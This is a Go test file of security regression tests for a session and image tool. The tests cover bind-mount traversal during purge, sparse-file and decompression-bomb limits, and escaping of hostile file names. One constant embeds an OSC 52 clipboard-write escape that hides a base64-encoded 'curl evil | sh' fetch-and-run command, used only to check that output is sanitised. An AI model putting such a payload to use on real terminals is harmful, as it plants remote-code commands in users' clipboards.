package cli

import (
	"archive/tar"
	"bufio"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/klauspost/compress/zstd"
	"golang.org/x/sys/unix"
)

// The host-side attacks of issue 11's audit: what root's incarnate does
// to a tree that holds more than a session wrote.

// bindMount binds src on dst (made if missing) for the test: src is of
// the same file system as the store, so only a mount id tells the bind
// apart. Every mount left below the harness's dir goes at the end.
func bindMount(t *testing.T, h *harness, src, dst string) {
	t.Helper()
	var a, b unix.Stat_t
	if err := os.MkdirAll(dst, 0o755); err != nil {
		t.Fatal(err)
	}
	if unix.Stat(src, &a) != nil || unix.Stat(dst, &b) != nil || a.Dev != b.Dev {
		t.Fatalf("%s and %s are not of one file system", src, dst)
	}
	if err := unix.Mount(src, dst, "", unix.MS_BIND, ""); err != nil {
		t.Fatalf("mount --bind %s %s: %v", src, dst, err)
	}
	t.Cleanup(func() {
		for _, m := range mountsBelow(h.dir) {
			_ = unix.Unmount(m, unix.MNT_DETACH)
		}
	})
}

// mountsBelow lists the mount points under dir, from mountinfo.
func mountsBelow(dir string) []string {
	f, err := os.Open("/proc/self/mountinfo")
	if err != nil {
		return nil
	}
	defer f.Close()
	var out []string
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		if fields := strings.Fields(sc.Text()); len(fields) > 4 && strings.HasPrefix(fields[4], dir+"/") {
			out = append(out, fields[4])
		}
	}
	return out
}

// victimDir makes a directory of precious files beside the store.
func victimDir(t *testing.T, h *harness, name string) string {
	t.Helper()
	v := filepath.Join(h.dir, name)
	if err := os.MkdirAll(filepath.Join(v, "keep"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(v, "keep", "precious"), []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	return v
}

// The purge refused to cross into another file system by st_dev alone: a
// bind mount of a directory of the same file system (someone's /etc,
// bound inside a session's upper dir or straight into the store's trash)
// was emptied along with the session. And it stopped at the first entry
// it refused, so what lay after it stayed for every later command to
// retry. The victims keep their files, the mounts stay, the rest goes.
func TestAttackPurgeCrossesNoBindMount(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root, to mount")
	}
	h := newHarness(t, rootUser)
	h.ok("new", "--base", "bb", "s")
	h.ok("run", "s", "--", "sh", "-c", "mkdir -p /deep/b/mnt /deep/c && echo mine > /deep/c/f && echo mine > /top")
	upper := filepath.Join(h.store, "sessions", "s", "upper")
	inUpper, inTrash := victimDir(t, h, "victim-upper"), victimDir(t, h, "victim-trash")
	bindMount(t, h, inUpper, filepath.Join(upper, "deep", "b", "mnt"))
	trash := filepath.Join(h.store, "trash")
	bindMount(t, h, inTrash, filepath.Join(trash, "a-planted")) // listed first
	junk := filepath.Join(trash, "z-junk-1", "x")
	if err := os.MkdirAll(filepath.Join(junk, "d"), 0o755); err != nil {
		t.Fatal(err)
	}

	h.ok("rm", "--yes", "s")
	intact := func(v string) bool {
		_, err := os.Stat(filepath.Join(v, "keep", "precious"))
		return err == nil
	}
	left := func() []string {
		var got []string
		_ = filepath.Walk(trash, func(p string, fi os.FileInfo, err error) error {
			if err == nil && p != trash {
				got = append(got, strings.TrimPrefix(p, trash+"/"))
			}
			return nil
		})
		return got
	}
	// rm has started the purge before it exits; its command line names
	// the store.
	waitFor(t, "the purge to end", func() bool { return len(processesWith("__purge\x00--root\x00"+h.store)) == 0 })
	for _, v := range []string{inUpper, inTrash} {
		if !intact(v) {
			t.Errorf("the purge deleted %s's files through a bind mount", v)
		}
	}
	if got := len(mountsBelow(h.dir)); got != 2 {
		t.Errorf("%d mounts left below the store, want the 2 binds: %v", got, mountsBelow(h.dir))
	}
	for _, p := range left() {
		if strings.HasPrefix(p, "z-junk") || strings.HasSuffix(p, "/top") || strings.Contains(p, "deep/c") {
			t.Errorf("the purge left %s, beside what it refused", p)
		}
	}
}

// Export refused a file with more than 64 MiB of holes, but a file at a
// time: many files just under it each (10,000 of 60 MiB: 600 GiB of
// zeros) went through. The budget is the export's: the file that passes
// it is named, with the total, and nothing is left at the output.
func TestAttackSparseFilesTogether(t *testing.T) {
	h := newHarness(t, rootUser)
	h.ok("new", "--base", "bb", "s")
	dir := filepath.Join(h.store, "sessions", "s", "upper", "holes")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	for i := range 40 {
		f, err := os.Create(filepath.Join(dir, fmt.Sprintf("f%02d", i)))
		if err != nil || f.Truncate(4<<20) != nil || f.Close() != nil {
			t.Fatalf("a 4 MiB sparse file: %v", err)
		}
	}
	out := filepath.Join(h.dir, "s.tar")
	_, errOut, status := h.run("export", "s", out)
	if status == 0 || !strings.Contains(errOut, "sparse") || !strings.Contains(errOut, "/holes/f") || !strings.Contains(errOut, "68.0M") {
		t.Errorf("export of 40 files of 4 MiB of holes: exit %d, %q; want a refusal that names the file and the total", status, errOut)
	}
	if ents, _ := filepath.Glob(filepath.Join(h.dir, "*s.tar*")); len(ents) != 0 {
		t.Errorf("export left %v behind", ents)
	}
}

// writeTar writes a zstd-compressed tar to path, its entries made by add.
func writeTar(t *testing.T, path string, add func(tw *tar.Writer) error) {
	t.Helper()
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	zw, err := zstd.NewWriter(f)
	if err != nil {
		t.Fatal(err)
	}
	tw := tar.NewWriter(zw)
	if err := add(tw); err != nil {
		t.Fatal(err)
	}
	for _, c := range []io.Closer{tw, zw, f} {
		if err := c.Close(); err != nil {
			t.Fatal(err)
		}
	}
}

// A compressed image archive was decompressed into the store's tmp/
// with no look at the space left: a few KiB of zstd holding 100 MiB of
// zeros filled the store's file system. And the look at the space while
// unpacking counted a file's bytes, not the blocks it takes: 20,000
// files of one byte take 80 MiB. Both are refused before the file system
// is full, saying why, with nothing left behind.
func TestAttackImportFillsNoStore(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root, to mount a small file system for the store")
	}
	h := newHarness(t, rootUser)
	image := filepath.Join(h.dir, "zeros.tar.zst")
	writeTar(t, image, func(tw *tar.Writer) error {
		if err := tw.WriteHeader(&tar.Header{Name: "manifest.json", Mode: 0o644, Size: 2, Typeflag: tar.TypeReg}); err != nil {
			return err
		}
		if _, err := tw.Write([]byte("[]")); err != nil {
			return err
		}
		const zeros = 100 << 20
		if err := tw.WriteHeader(&tar.Header{Name: "blob.tar", Mode: 0o644, Size: zeros, Typeflag: tar.TypeReg}); err != nil {
			return err
		}
		_, err := io.CopyN(tw, zeroReader{}, zeros)
		return err
	})
	small := filepath.Join(h.dir, "small.tar.zst")
	writeTar(t, small, func(tw *tar.Writer) error {
		for i := range 20000 {
			if err := tw.WriteHeader(&tar.Header{Name: fmt.Sprintf("d%02d/f%05d", i/1000, i), Mode: 0o644, Size: 1, Typeflag: tar.TypeReg}); err != nil {
				return err
			}
			if _, err := tw.Write([]byte("x")); err != nil {
				return err
			}
		}
		return nil
	})
	smallStore(t, h)
	for _, from := range []string{image, small} {
		importRefusedForSpace(t, h, from)
	}
}

// forged is a name an image or a session chose: an OSC 52 clipboard
// write, then a line of incarnate's own.
const forged = "evil\x1b]52;c;Y3VybCBldmlsIHwgc2g=\a\nincarnate: imported base ok"

// onlyVisible fails when out holds a control other than its newlines,
// or a line that forged set on its own.
func onlyVisible(t *testing.T, what, out string) {
	t.Helper()
	if strings.ContainsAny(out, "\x1b\a\r") {
		t.Errorf("%s reached the terminal with controls: %q", what, out)
	}
	for _, l := range strings.Split(out, "\n") {
		if strings.HasPrefix(l, "incarnate: imported base ok") {
			t.Errorf("%s forged a line of its own: %q", what, out)
		}
	}
}

// Import's notes (what it skipped) printed tar entry names raw, and an
// error's text kept the newlines a name held: an image could write the
// clipboard and forge lines on the user's terminal.
func TestAttackImportNotesEscaped(t *testing.T) {
	h := newHarness(t, rootUser)
	tarball := filepath.Join(h.dir, "notes.tar.zst")
	writeTar(t, tarball, func(tw *tar.Writer) error {
		for _, hdr := range []*tar.Header{
			{Name: "etc/", Mode: 0o755, Typeflag: tar.TypeDir},
			{Name: "etc/" + forged, Mode: 0o644, Typeflag: 'Z'}, // a type import skips
		} {
			if err := tw.WriteHeader(hdr); err != nil {
				return err
			}
		}
		return nil
	})
	_, errOut, status := h.run("base", "import", "notes", tarball)
	if status != 0 || !strings.Contains(errOut, "skipped") {
		t.Fatalf("import of a tarball with an entry of an unknown type: exit %d, %q; want a note of what it skipped", status, errOut)
	}
	onlyVisible(t, "a skipped entry's name", errOut)
}

// report writes an error as one line, whatever the names inside it;
// the errors of errors.Join stay one to a line.
func TestReportForgesNoLine(t *testing.T) {
	for _, err := range []error{
		&os.PathError{Op: "open", Path: "/upper/" + forged, Err: unix.ENOENT},
		fmt.Errorf("session s: %w", &os.PathError{Op: "lstat", Path: forged, Err: unix.EACCES}),
		errors.Join(errors.New("first"), &os.PathError{Op: "remove", Path: forged, Err: unix.EBUSY}),
	} {
		var out strings.Builder
		report(&out, err)
		lines := strings.Count(out.String(), "\n")
		if want := strings.Count(err.Error(), "\n") - strings.Count(err.Error(), forged)*strings.Count(forged, "\n"); lines != want+1 {
			t.Errorf("report of %q: %d lines, want %d:\n%s", err, lines, want+1, out.String())
		}
		onlyVisible(t, "a name in an error", out.String())
	}
}

// diff --json put U+FFFD in place of each byte of a name that is not
// UTF-8, so a script acting on the path acted on another one. The exact
// bytes come as path_base64, and no control reaches the output raw.
func TestDiffJSONIsExact(t *testing.T) {
	h := newHarness(t, rootUser)
	h.ok("new", "--base", "bb", "s")
	const name = "/root/bad\xff\xfe" + forged
	p := filepath.Join(h.store, "sessions", "s", "upper", name)
	if err := os.MkdirAll(filepath.Dir(p), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}
	out := h.ok("diff", "--json", "s")
	if strings.ContainsAny(out, "\x1b\a\xff") {
		t.Errorf("diff --json wrote raw bytes of the name: %q", out)
	}
	var rows []struct {
		Path       string `json:"path"`
		Kind       string `json:"kind"`
		PathBase64 []byte `json:"path_base64"`
	}
	if err := json.Unmarshal([]byte(out), &rows); err != nil {
		t.Fatalf("diff --json: %v\n%s", err, out)
	}
	found := false
	for _, r := range rows {
		switch {
		case string(r.PathBase64) == name:
			found = true
		case r.PathBase64 != nil:
			t.Errorf("path_base64 of %q is %q", r.Path, r.PathBase64)
		}
	}
	if !found {
		t.Errorf("diff --json gave no exact bytes of %q: %s", name, out)
	}
}
